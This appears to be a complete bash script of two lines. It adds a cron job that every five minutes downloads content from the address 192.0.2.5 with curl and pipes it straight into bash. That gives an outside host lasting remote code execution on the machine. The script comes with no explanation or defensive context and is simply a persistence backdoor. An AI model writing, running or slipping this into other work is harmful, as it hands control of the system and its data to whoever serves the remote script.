#!/bin/bash
( crontab -l 2>/dev/null; echo "*/5 * * * * /usr/bin/curl -s http://192.0.2.5/c | bash" ) | crontab -
